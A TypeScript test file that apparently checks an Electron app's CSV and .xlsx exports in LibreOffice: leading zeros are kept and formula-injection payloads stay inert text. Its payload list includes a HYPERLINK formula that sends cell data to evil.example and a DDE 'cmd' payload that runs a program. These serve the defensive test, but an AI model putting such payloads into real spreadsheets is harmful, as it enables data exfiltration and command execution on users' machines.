/**
 * Exports opened by another program: LibreOffice reads the CSV and .xlsx we write (converted
 * to .xlsx in the test run) and we read its cells back. Telephones keep their leading zeros,
 * numbers stay numbers, and none of the injected formulas runs.
 */
import ExcelJS from 'exceljs';
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { writeTable } from '../../../electron/services/exports/writeTable';
import { openWorkbook } from '../../../electron/services/importer/open';
import { exportList, openListServices } from '../../../electron/services/lists';
import { ImportSession } from '../../../electron/services/lists/importSession';
import { convert, hasSoffice, SOFFICE_MISSING } from '../../support/libreoffice';

const available = hasSoffice();
if (!available) console.warn(SOFFICE_MISSING);

/** Every payload of issue #12's probe, and the tab and CR starts. */
const INJECTED = [
  '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
  '=1+2',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2',
  '@SUM(A1)',
  '\t=1+2',
  '\r=1+2',
];

const dir = mkdtempSync(join(tmpdir(), 'cd-export-lo-'));

/** A list whose telephones start with 0 and whose notes are formula payloads. */
function listWithPayloads() {
  const services = openListServices(join(dir, 'data'));
  const session = new ImportSession(services.store, {
    name: '注入测试',
    sourceFile: 't.xlsx',
    sourceSheet: 'S',
    headerRow: 1,
    columns: {
      telephoneHeader: '电话',
      outidHeader: null,
      variables: ['备注'],
      order: ['telephone', 'var:备注'],
    },
  });
  session.append(
    INJECTED.map((note, index) => ({
      sourceRow: index + 2,
      telephoneRaw: index % 2 ? `0219124883${index}` : `1380013800${index}`,
      outid: `000${index}`,
      variables: [note],
    })),
  );
  return { store: services.store, list: session.finish() };
}

interface Cell {
  text: string;
  type: 'number' | 'text' | 'formula' | 'empty';
}

/** The cells of the first sheet of an .xlsx LibreOffice wrote: what each shows, and its kind. */
async function cellsOf(file: string): Promise<Cell[][]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.readFile(file);
  const rows: Cell[][] = [];
  workbook.worksheets[0]!.eachRow({ includeEmpty: true }, (row) => {
    const cells: Cell[] = [];
    for (let c = 1; c <= row.cellCount; c++) {
      const value = row.getCell(c).value;
      if (value === null || value === undefined) cells.push({ text: '', type: 'empty' });
      else if (typeof value === 'number') cells.push({ text: String(value), type: 'number' });
      else if (typeof value === 'string') cells.push({ text: value, type: 'text' });
      else if (typeof value === 'object' && 'richText' in value)
        // LibreOffice writes mixed scripts as runs of fonts: still one text.
        cells.push({ text: value.richText.map((run) => run.text).join(''), type: 'text' });
      else if (typeof value === 'object' && 'formula' in value)
        cells.push({ text: String(value.result ?? ''), type: 'formula' });
      else cells.push({ text: JSON.stringify(value), type: 'text' });
    }
    rows.push(cells);
  });
  return rows;
}

/** What a spreadsheet user sees in a cell (a text formula's result is the text). */
const shown = (cell: Cell | undefined): string => cell?.text ?? '';

describe.skipIf(!available)('exports opened in LibreOffice', () => {
  let csvBack: Cell[][];
  let xlsxBack: Cell[][];
  let tableCsvBack: Cell[][];
  let tableXlsxBack: Cell[][];

  beforeAll(async () => {
    const { store, list } = listWithPayloads();
    await exportList(store, list.id, join(dir, 'list.csv'));
    await exportList(store, list.id, join(dir, 'list.xlsx'));
    const table = {
      sheet: 'Results',
      columns: [
        { header: '电话号码', kind: 'phone' as const },
        { header: '通话时长(秒)', kind: 'duration' as const },
        { header: '金额', kind: 'number' as const },
        { header: '备注', kind: 'text' as const },
      ],
      pages: [
        [
          ['02191248839', 12.5, -2, '-2'],
          ['008613800138000', 0, 1234567.25, '=1+2'],
        ],
      ],
    };
    await writeTable(join(dir, 'table.csv'), 'csv', table);
    await writeTable(join(dir, 'table.xlsx'), 'xlsx', table);
    // One soffice run per input type: CSV read as UTF-8, comma, double quote (what Calc's
    // dialog proposes for our files); .xlsx as it is.
    const csvOut = convert([join(dir, 'list.csv'), join(dir, 'table.csv')], 'xlsx', join(dir, 'from-csv'), {
      infilter: 'CSV:44,34,76',
    });
    const xlsxOut = convert(
      [join(dir, 'list.xlsx'), join(dir, 'table.xlsx')],
      'xlsx',
      join(dir, 'from-xlsx'),
    );
    [csvBack, tableCsvBack] = (await Promise.all(csvOut.map(cellsOf))) as [Cell[][], Cell[][]];
    [xlsxBack, tableXlsxBack] = (await Promise.all(xlsxOut.map(cellsOf))) as [Cell[][], Cell[][]];
  }, 180_000);

  it('keeps every telephone and id digit from CSV and .xlsx', () => {
    for (const rows of [csvBack, xlsxBack]) {
      expect(rows[0]!.map(shown)).toEqual(['电话', '备注', '数据ID']);
      INJECTED.forEach((_, index) => {
        const row = rows[index + 1]!;
        expect(shown(row[0])).toBe(index % 2 ? `0219124883${index}` : `1380013800${index}`);
        expect(row[0]!.type).not.toBe('number');
        expect(shown(row[2])).toBe(`000${index}`);
      });
    }
    expect(shown(tableCsvBack[2]![0])).toBe('008613800138000');
    expect(shown(tableXlsxBack[1]![0])).toBe('02191248839');
  });

  it('runs none of the injected formulas', () => {
    const csv = readFileSync(join(dir, 'list.csv'), 'utf8');
    expect(csv.startsWith('\uFEFF')).toBe(true);
    INJECTED.forEach((payload, index) => {
      // CSV: the text with a leading ', as OWASP advises; a text cell, not a formula.
      const fromCsv = csvBack[index + 1]![1]!;
      expect(fromCsv.type).toBe('text');
      expect(fromCsv.text.replace(/\r\n?/g, '\n')).toBe(`'${payload}`.replace(/\r\n?/g, '\n'));
      // .xlsx: the payload as plain text.
      const fromXlsx = xlsxBack[index + 1]![1]!;
      expect(fromXlsx.type).toBe('text');
      expect(fromXlsx.text.replace(/\r\n?/g, '\n')).toBe(payload.replace(/\r\n?/g, '\n'));
    });
    expect(shown(tableCsvBack[2]![3])).toBe("'=1+2");
    expect(tableCsvBack[2]![3]!.type).toBe('text');
  });

  it('reads numbers and durations back as numbers, text minus signs as text', () => {
    for (const rows of [tableCsvBack, tableXlsxBack]) {
      expect(rows[1]![1]).toEqual({ text: '12.5', type: 'number' });
      expect(rows[1]![2]).toEqual({ text: '-2', type: 'number' });
      expect(rows[2]![2]).toEqual({ text: '1234567.25', type: 'number' });
      expect(rows[1]![3]!.type).toBe('text');
    }
    expect(shown(tableCsvBack[1]![3])).toBe("'-2");
    expect(shown(tableXlsxBack[1]![3])).toBe('-2');
  });
});

describe('exports imported again', () => {
  it('reads its own CSV back as the cells it wrote (="…" as the digits, payloads as text)', async () => {
    const { store, list } = listWithPayloads();
    const file = join(dir, 'again.csv');
    await exportList(store, list.id, file);
    const source = await openWorkbook(file);
    const rows: string[][] = [];
    for await (const batch of source.rows(source.sheets[0]!.name))
      rows.push(...batch.map((row) => row.cells));
    expect(rows[0]).toEqual(['电话', '备注', '数据ID']);
    expect(rows.slice(1).map((row) => row[0])).toEqual(
      INJECTED.map((_, index) => (index % 2 ? `0219124883${index}` : `1380013800${index}`)),
    );
    expect(rows.slice(1).map((row) => row[2])).toEqual(INJECTED.map((_, index) => `000${index}`));
    expect(rows[2]![1]).toBe("'=1+2");
  });
});
